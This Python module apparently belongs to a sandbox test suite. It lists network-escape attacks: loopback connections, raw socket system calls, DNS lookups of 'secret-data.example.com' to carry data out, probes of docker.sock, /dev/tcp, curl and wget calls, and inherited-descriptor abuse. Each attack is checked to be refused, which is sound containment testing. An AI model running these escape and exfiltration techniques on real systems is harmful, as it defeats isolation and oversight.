"""Attacks that reach for a network, this machine's own included."""

from __future__ import annotations

from sandbox.attacks.attack import Attack, all_of, ends, prints, refused, says

NETWORK = (
    Attack(
        name="connect to this machine",
        harm="connects to a service that listens on loopback, in the ways that programs do",
        code="""
import asyncio, http.client, socket, urllib.request
for host in ("127.0.0.1", "localhost"):
    attempt("connect", lambda: socket.create_connection((host, @tcp_port@), timeout=5).close())
    attempt("streams", lambda: asyncio.run(asyncio.open_connection(host, @tcp_port@)))
    attempt("http", lambda: http.client.HTTPConnection(host, @tcp_port@, timeout=1).request("GET", "/"))
    attempt("urllib", lambda: urllib.request.urlopen(f"http://{host}:@tcp_port@/", timeout=1))
""",
        check=refused(8),
        outside=True,
    ),
    Attack(
        name="make a socket of every family",
        harm="finds a family of sockets that nobody has thought of",
        code="""
import socket
made, tried = [], 0
for family in range(64):
    for kind in (1, 2, 3, 4, 5, 10):
        for protocol in (0, 1, 6, 17, 255):
            tried += 1
            try:
                made.append((socket.socket(family, kind, protocol), family, kind))
            except OSError as error:
                if error.errno not in (errno.EPERM, errno.EACCES):
                    made.append((error, family, kind))
print(tried, made[:5])
""",
        check=all_of(ends("exited", code=0), prints(f"{64 * 6 * 5} []\n")),
    ),
    Attack(
        name="make network calls by number",
        harm="goes past the C library: the system calls of sockets themselves",
        code="""
buffer = ctypes.create_string_buffer(128)
attempt("socket", lambda: call((41, 198), 2, 1, 0))
attempt("socketpair", lambda: call((53, 199), 1, 2, 0, buffer))
attempt("socketpair of another family", lambda: call((53, 199), 2, 1, 0, buffer))
attempt("pair by a high half", lambda: call((53, 199), 1, ctypes.c_long((1 << 32) | 2), 0, buffer))
for name, numbers in {"connect": (42, 203), "bind": (49, 200), "listen": (50, 201), "accept": (43, 202),
                      "accept4": (288, 242)}.items():
    attempt(name, lambda: call(numbers, 0, buffer, 16, 0))
attempt("the old entry", lambda: call((None, None), 1, buffer))
""",
        check=refused(10, "EPERM", "EACCES", "ENOSYS"),
    ),
    Attack(
        name="resolve names",
        harm="sends data out as names that a DNS server is asked for",
        code="""
import socket, time
begun = time.monotonic()
attempt("addresses", lambda: socket.getaddrinfo("secret-data.example.com", 80))
attempt("host", lambda: socket.gethostbyname("secret-data.example.com"))
attempt("reverse", lambda: socket.gethostbyaddr("192.0.2.1"))
attempt("packet", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 53)))
attempt("settings", lambda: open("/etc/resolv.conf").read())
attempt("hosts", lambda: open("/etc/hosts").read())
print(time.monotonic() - begun < 5)
""",
        check=all_of(refused(6), says(r"(?m)^True$")),
    ),
    Attack(
        name="send datagrams to this machine",
        harm="sends a packet that needs no connection, to a UDP and to a unix socket",
        code="""
import socket
here = ("127.0.0.1", @udp_port@)
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", here))
name = "\\0@datagram@"
attempt("unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", name))
attempt("six", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("::1", @udp_port@)))
""",
        check=refused(3),
        outside=True,
    ),
    Attack(
        name="connect to a unix socket",
        harm="talks to a service through its path or its abstract name, as to a container daemon",
        code="""
import socket
def connect(name):
    with socket.socket(socket.AF_UNIX) as made:
        made.connect(name)
attempt("path", lambda: connect("@unix@"))
attempt("abstract", lambda: connect("\\0@abstract@"))
for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
             "/run/systemd/notify"):
    attempt(path, lambda: connect(path))
    attempt("facts about " + path, lambda: os.stat(path))
""",
        check=refused(10),
        outside=True,
    ),
    Attack(
        name="make a place where others connect",
        harm="listens for connections, on a port, on a path and on an abstract name",
        code="""
import socket, stat
attempt("port", lambda: socket.create_server(("0.0.0.0", 0)))
def bind(name):
    made = socket.socket(socket.AF_UNIX)
    made.bind(name)
    made.listen()
attempt("path", lambda: bind("mine"))
attempt("abstract", lambda: bind("\\0mine-@token@"))
attempt("node", lambda: os.mknod("mine", stat.S_IFSOCK | 0o666))
""",
        check=refused(4, "EPERM", "EACCES"),
    ),
    Attack(
        name="point a pair of sockets at others",
        harm="takes sockets that it may have, a pair for itself, and sends to somebody else",
        code="""
import socket
attempt("datagram pair", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM))
attempt("raw pair", lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW))
for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
    one, other = socket.socketpair(socket.AF_UNIX, kind)
    for name in ("\\0@abstract@", "\\0@datagram@", "@unix@"):
        for send in (lambda: one.sendto(b"x", name), lambda: one.sendmsg([b"x"], [], 0, name)):
            try:
                send()
            except OSError:
                pass
        attempt("connect", lambda: one.connect(name))
    attempt("bind", lambda: one.bind("\\0mine-@token@"))
    other.close()
    attempt("connect what was a pair", lambda: one.connect("\\0@abstract@"))
""",
        # What is sent to a name through a connected pair may come out at its other end, and nowhere else.
        check=refused(2 + 2 * (3 + 2)),
    ),
    Attack(
        name="send through sockets that it was given",
        harm="finds a socket of the harness among its descriptors, and sends through it",
        code="""
import socket
for number in range(256):
    try:
        made = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM, fileno=number)
        made.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE)
        print("DONE", number, made)
    except OSError:
        pass
    for action in (lambda: call((44, 206), number, b"x", 1, 0, 0, 0), lambda: call((46, 211), number, 0, 0)):
        try:
            print("DONE", number, action())
        except OSError:
            pass
print("looked")
""",
        check=all_of(ends("exited", code=0), prints("looked\n")),
    ),
    Attack(
        name="let other programs connect",
        harm="starts programs that reach a network by themselves",
        code="""
import subprocess
url = "http://127.0.0.1:@tcp_port@/"
script = "import socket; socket.create_connection(('127.0.0.1', @tcp_port@), timeout=5)"
for words in (["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/@tcp_port@"], ["curl", "-m", "5", url],
              ["wget", "-t", "1", "-T", "5", "-O", "-", url], [sys.executable, "-c", script],
              ["perl", "-MIO::Socket::INET", "-e", "IO::Socket::INET->new('127.0.0.1:@tcp_port@') or die"]):
    attempt(words[0], lambda: subprocess.run(words, check=True, capture_output=True, timeout=15))
""",
        check=refused(5),
    ),
    Attack(
        name="connect from threads and children",
        harm="hopes that only the first process of a call is kept from the network",
        code="""
import socket, threading
def connect():
    attempt("connect", lambda: socket.create_connection(("127.0.0.1", @tcp_port@), timeout=5))
thread = threading.Thread(target=connect)
thread.start()
thread.join()
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        connect()
        sys.stdout.flush()
        os._exit(0)
    os.wait()
""",
        check=refused(4, "EPERM", "EACCES"),
    ),
    Attack(
        name="look at the machine's network",
        harm="lists interfaces, addresses and routes, to learn where it is",
        code="""
import socket
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
attempt("routes", lambda: open("/proc/net/route").read())
attempt("connections", lambda: open("/proc/self/net/tcp").read())
attempt("interfaces", lambda: os.listdir("/sys/class/net"))
attempt("names", lambda: print(socket.if_nameindex()))
print(os.uname().nodename)
""",
        check=refused(5),
    ),
)
